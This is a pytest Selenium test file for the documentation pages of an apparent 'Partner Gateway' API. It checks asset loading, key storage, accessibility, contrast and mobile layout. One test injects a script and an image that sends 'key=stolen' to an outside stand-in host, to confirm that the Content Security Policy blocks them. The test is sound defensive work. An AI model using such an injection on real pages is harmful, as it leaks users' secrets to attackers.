"""The pages in a real browser without a network: they render, work, and keep their policy."""

from __future__ import annotations

import secrets
import time
from pathlib import Path
from typing import Any

import pytest
import requests
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By

from app.errors import ErrorCode
from demo.local import KEY, Local
from tools.browser.chromium import PATIENCE, complaints
from tools.browser.docs_page import DocsPage

CONTRAST = (Path(__file__).parent / "contrast.js").read_text()
PAGES = ["/docs", "/v1/errors", "/v1/errors/UPSTREAM_ERROR", "/docs/guides/calling"]
OPENED = ("getVerification", "submitIndividualVerification", "uploadAttachment", "deleteAttachment")
TALLEST = 2_800  # pixels of an open read
# The elements that end beyond the right edge of the page, but for those that scroll by themselves.
TOO_WIDE = """
  const scrolls = element => element !== document.body
    && (/auto|scroll|hidden/.test(getComputedStyle(element).overflowX)
      || scrolls(element.parentElement));
  const edge = document.documentElement.clientWidth + 1;
  return [...document.querySelectorAll("body *")]
    .filter(one => one.getBoundingClientRect().right > edge && !scrolls(one.parentElement))
    .map(one => one.outerHTML.slice(0, 80));
"""


def show(chrome: Chrome, served: Local, path: str) -> None:
    if path == "/docs":
        DocsPage(chrome, served.url)
    else:
        chrome.get(f"{served.url}{path}")


def test_the_root_path_opens_docs_of_every_operation(chrome: Chrome, served: Local) -> None:
    chrome.get(served.url)
    chrome.find_element(By.CSS_SELECTOR, ".opblock")
    assert chrome.current_url == f"{served.url}/docs"
    paths = requests.get(f"{served.url}/openapi.json", timeout=5).json()["paths"]
    operations = {
        operation["operationId"]
        for item in paths.values()
        for operation in item.values()
        if isinstance(operation, dict)
    }
    blocks = chrome.find_elements(By.CSS_SELECTOR, ".opblock")
    shown = {str(block.get_attribute("id")).rpartition("-")[2] for block in blocks}
    assert shown == operations


@pytest.mark.parametrize("path", PAGES)
def test_a_page_loads_everything_from_the_gateway(chrome: Chrome, served: Local, path: str) -> None:
    show(chrome, served, path)
    loaded = chrome.execute_script(
        "return performance.getEntriesByType('resource').map(one => one.name)"
    )
    assert f"{served.url}/docs/assets/pages.css" in loaded
    assert all(address.startswith(f"{served.url}/") for address in loaded)
    assert complaints(chrome) == []


@pytest.mark.parametrize("path", PAGES)
def test_an_injected_script_picture_or_style_is_blocked(
    chrome: Chrome, served: Local, path: str
) -> None:
    show(chrome, served, path)
    chrome.execute_script("""
        const script = document.createElement("script");
        script.textContent = "window.intruded = true";
        document.body.append(script);
        const picture = document.createElement("img");
        picture.src = "https://elsewhere.example/?key=stolen";
        document.body.append(picture);
        document.body.insertAdjacentHTML("beforeend", "<p id='styled' style='color: red'>.</p>");
    """)
    styled = chrome.find_element(By.ID, "styled").value_of_css_property("color")
    assert chrome.execute_script("return window.intruded") is None
    assert styled != "rgba(255, 0, 0, 1)"
    said, ends = complaints(chrome), time.monotonic() + PATIENCE
    while len(said) < 3 and time.monotonic() < ends:
        said += complaints(chrome)
    assert len(said) == 3
    assert all("violates the following Content Security Policy" in one for one in said)


def test_the_docs_page_sends_a_verification_and_links_a_problem_to_its_page(
    chrome: Chrome, served: Local
) -> None:
    page = DocsPage(chrome, served.url)
    page.authorize(KEY)
    customer = f"browser-{secrets.token_hex(4)}"

    status, verification = page.try_out("submitIndividualVerification", customer)

    assert (status, verification["status"]) == (201, "VERIFIED")
    assert verification["customer_id"] == customer
    assert complaints(chrome) == []

    status, problem = page.try_out("getVerification", "code-CBC-5002")

    assert (status, problem["code"]) == (404, "CUSTOMER_NOT_FOUND")
    chrome.get(f"{served.url}{problem['type']}")
    read = chrome.find_element(By.TAG_NAME, "main").text
    assert chrome.find_element(By.TAG_NAME, "h1").text == problem["title"]
    assert ErrorCode.CUSTOMER_NOT_FOUND.explanation in read
    assert "No: the answer would be the same. NEVER" in read


def test_the_docs_page_does_not_store_the_callers_key(chrome: Chrome, served: Local) -> None:
    page = DocsPage(chrome, served.url)
    assert not page.authorized()
    page.authorize(KEY)
    assert page.authorized()
    kept = "return [localStorage.length, sessionStorage.length, document.cookie]"
    assert chrome.execute_script(kept) == [0, 0, ""]
    assert not DocsPage(chrome, served.url).authorized()


def test_the_pages_of_errors_link_to_one_another(chrome: Chrome, served: Local) -> None:
    chrome.get(f"{served.url}/v1/errors")
    chrome.find_element(By.LINK_TEXT, "OUTCOME_UNKNOWN").click()
    assert chrome.title == "OUTCOME_UNKNOWN · Partner Gateway"
    chrome.find_element(By.LINK_TEXT, "All error codes").click()
    assert chrome.current_url == f"{served.url}/v1/errors"


@pytest.mark.parametrize("path", PAGES)
def test_a_page_has_a_title_language_and_headings_for_screen_readers(
    chrome: Chrome, served: Local, path: str
) -> None:
    show(chrome, served, path)
    outline: dict[str, Any] = chrome.execute_script("""
        const all = selector => [...document.querySelectorAll(selector)];
        return {
          language: document.documentElement.lang,
          title: document.title,
          landmarks: all("body > header nav, main").map(one => one.localName),
          headings: all("h1, h2, h3, h4").map(one => Number(one.localName[1])),
          nameless: all("a, button, input, select, img").filter(one =>
            one.checkVisibility() && !(one.innerText || one.ariaLabel || one.title || one.alt
            || one.labels?.length)).map(one => one.outerHTML),
        };
    """)
    assert outline["language"] == "en"
    assert outline["title"].endswith("Partner Gateway")
    assert outline["landmarks"] == ["nav", "main"]
    assert outline["headings"].count(1) == 1
    assert outline["headings"][0] == 1
    assert outline["nameless"] == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("path", PAGES)
def test_every_text_of_a_page_has_enough_contrast(
    chrome: Chrome, served: Local, path: str, scheme: str
) -> None:
    feature = {"name": "prefers-color-scheme", "value": scheme}
    chrome.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [feature]})
    try:
        show(chrome, served, path)
        if path == "/docs":
            page = DocsPage(chrome, served.url)
            for operation in OPENED:
                page.open(operation)
            page.unfold("getVerification", "404")
        contrasts: dict[str, float] = chrome.execute_script(CONTRAST)
        ground = chrome.find_element(By.TAG_NAME, "body").value_of_css_property("background-color")
    finally:
        chrome.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
    assert ("255, 255, 255" in ground) == (scheme == "light")
    assert len(contrasts) > 3
    assert {text: ratio for text, ratio in contrasts.items() if ratio < 4.5} == {}


def test_the_examples_of_problems_are_folded_until_a_person_asks_for_one(
    chrome: Chrome, served: Local
) -> None:
    page = DocsPage(chrome, served.url)
    operation = page.open("getVerification")
    assert int(operation.size["height"]) < TALLEST
    shown = operation.find_elements(By.CSS_SELECTOR, ".response .model-example")
    assert len(shown) == 1  # of the success
    assert "CUSTOMER_NOT_FOUND" in operation.text  # the codes are visible all the same
    assert "NOT_FOUND" in page.unfold("getVerification", "404").text
    assert complaints(chrome) == []


@pytest.mark.parametrize("path", PAGES)
def test_nothing_is_wider_than_the_screen_of_a_telephone(
    chrome: Chrome, served: Local, path: str
) -> None:
    screen = {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": False}
    chrome.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", screen)
    try:
        show(chrome, served, path)
        if path == "/docs":
            page = DocsPage(chrome, served.url)
            for operation in OPENED:
                page.open(operation)
        width = chrome.execute_script("return document.documentElement.scrollWidth")
        too_wide = chrome.execute_script(TOO_WIDE)
    finally:
        chrome.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    assert (too_wide, width <= 390) == ([], True)
